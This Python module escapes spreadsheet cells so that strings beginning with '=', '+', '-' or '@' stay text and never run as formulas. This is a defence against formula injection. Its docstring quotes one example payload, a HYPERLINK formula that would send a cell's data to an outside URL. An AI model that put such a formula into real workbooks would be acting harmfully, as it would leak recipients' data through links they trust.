"""Cells of the spreadsheets the project writes: text stays text, whatever it starts with.

openpyxl stores a string that starts with "=" as a formula, and Excel and LibreOffice treat a
cell typed or edited to start with "=", "+", "-" or "@" as one too (OWASP, "CSV Injection"): a
unit name ``=HYPERLINK("http://…/?d="&A1,"Klik")`` from an agency's export would become a live
link in a workbook handed to officials. Every writer builds its cells here (``cell``) or passes
its workbook through ``keep_text`` before saving (``evalasn.files.save_workbook_atomically`` does):
a string is stored as a string (cell type "s"), and one starting with a formula trigger also gets
the quote prefix, the style Excel and LibreOffice give a cell typed with a leading apostrophe,
so that editing it keeps it text. Numbers, dates and booleans are left as they are (a negative
number stays a number).
"""

from __future__ import annotations

from evalasn.constants import FORMULA_TRIGGERS


def cell(sheet, value):
    """An openpyxl cell of ``sheet`` holding ``value``, text kept as text; it goes in
    ``sheet.append`` of a streamed (write-only) or an ordinary worksheet alike."""
    from openpyxl.cell import WriteOnlyCell

    made = WriteOnlyCell(sheet)
    set_value(made, value)
    return made


def value_or_cell(sheet, value):
    """``value`` for ``sheet.append`` as it is where openpyxl already stores it as it is (not text, or text
    that starts with no formula trigger and is not an Excel error code such as "#N/A"), else a cell from
    ``cell``: the same bytes, without building a cell object that openpyxl copies again (a third of a
    large workbook's time; evalasn.report.formats.workbook)."""
    if isinstance(value, str) and (value.startswith(FORMULA_TRIGGERS) or value.startswith("#")):
        return cell(sheet, value)
    return value


def set_value(target, value) -> None:
    """Put ``value`` in the openpyxl cell ``target``, text kept as text."""
    target.value = value
    as_text(target)


def as_text(target) -> None:
    """Make the openpyxl cell ``target`` hold its string as text, never a formula."""
    value = target.value
    if not isinstance(value, str):
        return
    target.data_type = "s"
    if value.startswith(FORMULA_TRIGGERS):
        target.quotePrefix = True


def row(sheet, values) -> list:
    """``values`` as a row for ``sheet.append``: every value a cell from ``cell`` (cells passed through)."""
    from openpyxl.cell import Cell

    return [value if value is None or isinstance(value, Cell) else cell(sheet, value) for value in values]


def keep_text(book) -> None:
    """Every string cell of the workbook ``book`` as text. A streamed (write-only) workbook has
    written its rows already: its writer builds every cell with ``cell`` or ``row``."""
    if book.write_only:
        return
    for sheet in book.worksheets:
        for cells in sheet.iter_rows():
            for target in cells:
                if target.data_type in ("s", "f"):
                    as_text(target)


def formula_cells(book) -> list[str]:
    """Where ``book`` (as loaded by openpyxl) holds a formula: "sheet!A1" for each."""
    return [f"{sheet.title}!{target.coordinate}" for sheet in book.worksheets for cells in sheet.iter_rows()
            for target in cells if target.data_type == "f"]
